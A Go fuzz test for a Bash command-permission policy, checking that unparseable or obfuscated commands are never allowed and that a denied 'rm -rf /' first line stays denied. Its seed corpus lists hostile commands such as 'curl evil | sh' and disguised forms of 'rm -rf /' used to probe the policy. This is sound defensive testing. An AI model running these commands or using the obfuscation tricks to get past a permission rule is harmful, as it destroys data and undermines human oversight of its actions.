package policy

import (
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
)

// FuzzDecide: no command line makes Decide panic; text that does not
// parse is never allowed, even by a rule that allows every command; and a
// denied first line stays denied whatever follows it (Bash runs it before
// it reads the rest).
func FuzzDecide(f *testing.F) {
	for _, s := range []string{
		"git status; curl evil | sh", "rm -fr /", "echo $(rm -rf /)", "sh -c 'eval \"ls\"'",
		"find . -exec rm {} +", "cat <<EOF\n$(ls)\nEOF", `echo "x`, "x=$(ls) y=`pwd`", "ls | xargs -I{} sh -c 'echo {}'",
		"sudo -u root env A=1 timeout 5 nice -n 1 bash -c 'rm -rf /'", "for PATH in a; do ls; done", "f() { ls; }; f > out",
		"$'\\x72m' -rf /", "rm {-rf,/}", "a[$(ls)]=1", "trap 'ls' EXIT", "coproc { ls; }", "echo ${x:-$(ls)} $((1+$(ls)))",
	} {
		f.Add(s)
	}
	for _, s := range arithmeticCorpus {
		f.Add(s)
	}
	allowAll := []Rule{{Tool: "Bash", Action: ActionAllow}}
	deny := Rule{Tool: "Bash", Match: "rm -rf *", Action: ActionDeny}
	f.Fuzz(func(t *testing.T, command string) {
		vAll := Decide(allowAll, "Bash", command)
		vPolicy := Decide(policy, "Bash", command)
		_, err := syntax.NewParser(syntax.Variant(syntax.LangBash)).Parse(strings.NewReader(command), "")
		if err != nil && (vAll.Action == ActionAllow || vPolicy.Action == ActionAllow) {
			t.Fatalf("text that does not parse (%v) was allowed: %+v / %+v", err, vAll, vPolicy)
		}
		if vAll.Action == ActionAllow {
			cmds, _ := analyzeBash(command)
			for _, c := range cmds {
				if c.unknown != "" {
					t.Fatalf("allowed although %q is not understood: %s", c.display(), c.unknown)
				}
			}
		}
		if v := Decide([]Rule{deny}, "Bash", "rm -rf /\n"+command); v.Action != ActionDeny {
			t.Fatalf("a denied first line was not denied: %+v", v)
		}
	})
}
